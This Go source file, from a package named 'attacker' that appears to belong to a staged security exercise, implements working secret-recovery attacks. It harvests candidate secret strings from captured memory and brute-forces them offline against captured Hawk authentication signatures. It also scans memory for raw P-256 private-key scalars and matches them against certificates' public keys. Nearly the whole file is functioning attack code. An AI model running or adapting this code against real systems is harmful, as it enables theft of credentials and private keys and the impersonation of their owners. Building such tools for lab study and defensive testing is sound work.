package attacker

import (
	"bytes"
	"crypto/ecdh"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/x509"
	"encoding/binary"
	"errors"
	"math/bits"
	"net/http"
	"slices"
	"time"

	"keyladder/stages/mechanism/hawk"
)

// Bounds on what is tried. They are far above what a running app holds.
const (
	maxTexts   = 1 << 20 // texts that could be secrets
	maxTrials  = 3 << 20 // of texts against a signature, which take a microsecond or two
	maxScalars = 1 << 18 // numbers that could be private keys, which take ten
)

// Shared secrets are texts of this length, as far as anybody would make them.
const (
	minSecret = 16
	maxSecret = 128
)

// texts are pieces of memory that could be secrets because of the characters in them,
// each once. It knows no place and no name.
type texts map[string]struct{}

// secretAlphabet is what secrets are written with: hexadecimal, base32, base64 and its
// form for URLs are all in it.
var secretAlphabet = func() (alphabet [256]bool) {
	for _, c := range []byte("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=_-") {
		alphabet[c] = true
	}
	return alphabet
}()

// collect takes the longest runs of the secret alphabet out of a piece of memory. Of a
// run that is too long to be a secret the beginning is kept: the end of a secret may be
// followed by what lay there before.
func (t texts) collect(data []byte) {
	for at := 0; at < len(data); at++ {
		start := at
		for at < len(data) && secretAlphabet[data[at]] {
			at++
		}
		if at-start >= minSecret && len(t) < maxTexts {
			t[string(data[start:min(at, start+maxSecret)])] = struct{}{}
		}
	}
}

// prove finds the secret with which a request was signed: whoever has a signature can
// try as many secrets as they like, and nobody notices. It is empty where no text is it.
func (t texts) prove(host string, port int, signatures []signature) string {
	trials := maxTrials
	for _, s := range signatures {
		fits := s.trial(host, port)
		if fits == nil {
			continue
		}
		for text := range t {
			if trials--; trials < 0 {
				return ""
			}
			if fits(text) {
				return text
			}
		}
	}
	// Nothing says where a text ends in memory. What follows a secret may look like it.
	for _, s := range signatures[:min(len(signatures), 1)] {
		fits := s.trial(host, port)
		for text := range t {
			if fits == nil || !mixed(text) {
				continue
			}
			for end := minSecret; end < len(text); end++ {
				if trials--; trials < 0 {
					return ""
				}
				if fits(text[:end]) {
					return text[:end]
				}
			}
		}
	}
	return ""
}

// mixed tells whether a text looks as random as a secret should: letters and digits,
// and many different ones.
func mixed(text string) bool {
	var seen [256]bool
	different, digits, letters := 0, 0, 0
	for _, c := range []byte(text[:minSecret]) {
		if seen[c] {
			continue
		}
		seen[c] = true
		different++
		switch {
		case c >= '0' && c <= '9':
			digits++
		case c|0x20 >= 'a' && c|0x20 <= 'z':
			letters++
		}
	}
	return different >= 8 && digits > 0 && letters > 0
}

// trial returns a function that tells whether a secret fits the signature: the server's
// half of Hawk, with one request and any number of secrets. It is nil where the
// signature is none.
func (s signature) trial(host string, port int) func(secret string) bool {
	var candidate string
	server := hawk.Verifier{
		Host: host, Port: port, Nonces: hawk.NoncesForgotten(),
		Lookup: func(string) (string, error) { return candidate, nil },
	}
	request := &http.Request{Method: s.method, RequestURI: s.target, Header: http.Header{"Authorization": {s.field}}}
	now := time.Now()
	fits := func(secret string) bool {
		candidate = secret
		// After the code come the body, which nobody kept, and the time.
		_, err := server.Verify(request, nil, now)
		return err == nil || errors.Is(err, hawk.ErrHash) || errors.Is(err, hawk.ErrStale)
	}
	candidate = "no secret"
	if _, err := server.Verify(request, nil, now); !errors.Is(err, hawk.ErrMAC) {
		return nil
	}
	return fits
}

// scalars finds private keys of elliptic curves in memory as the bare numbers that they
// are, 32 bytes in either order, by computing the public key of everything that could
// be one.
type scalars struct {
	wanted map[string]*x509.Certificate // by the uncompressed point of the public key
	tried  map[[scalarSize]byte]struct{}
	found  []*ecdsa.PrivateKey
}

const scalarSize = 32 // bytes, of P-256

// newScalars looks for the keys of the certificates.
func newScalars(certificates []*x509.Certificate) *scalars {
	s := &scalars{wanted: map[string]*x509.Certificate{}, tried: map[[scalarSize]byte]struct{}{}}
	for _, certificate := range certificates {
		if key, ok := certificate.PublicKey.(*ecdsa.PublicKey); ok && key.Curve == elliptic.P256() && !certificate.IsCA {
			if point, err := key.Bytes(); err == nil {
				s.wanted[string(point)] = certificate
			}
		}
	}
	return s
}

// search tries every place of a piece of memory at which a program would put a number:
// addresses that words have.
func (s *scalars) search(data []byte) {
	const word = 8
	for at := 0; at+scalarSize <= len(data) && len(s.wanted) > 0 && len(s.tried) < maxScalars; at += word {
		if !random(data[at : at+scalarSize]) {
			continue
		}
		number := [scalarSize]byte(data[at:])
		s.try(number)
		slices.Reverse(number[:]) // as processors keep large numbers, the low end first
		s.try(number)
	}
}

func (s *scalars) try(number [scalarSize]byte) {
	if _, again := s.tried[number]; again {
		return
	}
	s.tried[number] = struct{}{}
	private, err := ecdh.P256().NewPrivateKey(number[:])
	if err != nil {
		return // zero, or above the order of the curve
	}
	point := string(private.PublicKey().Bytes())
	if s.wanted[point] == nil {
		return
	}
	if key, err := ecdsa.ParseRawPrivateKey(elliptic.P256(), number[:]); err == nil {
		s.found = append(s.found, key)
		delete(s.wanted, point)
	}
}

// random tells whether bytes look random, and not like text, code, pointers or small
// numbers. Nearly all random numbers pass.
func random(number []byte) bool {
	high := 0 // bits that ASCII has not
	for at := 0; at < len(number); at += 8 {
		word := binary.LittleEndian.Uint64(number[at:])
		if word>>48 == 0 || word<<48 == 0 || word>>48 == 0xffff {
			return false
		}
		high += bits.OnesCount64(word & 0x8080808080808080)
	}
	if high < 4 || high > len(number)-4 {
		return false
	}
	var seen [4]uint64
	for _, b := range number {
		seen[b>>6] |= 1 << (b & 63)
	}
	different := 0
	for _, word := range seen {
		different += bits.OnesCount64(word)
	}
	return different >= 24 && !bytes.Contains(number, []byte{0, 0})
}
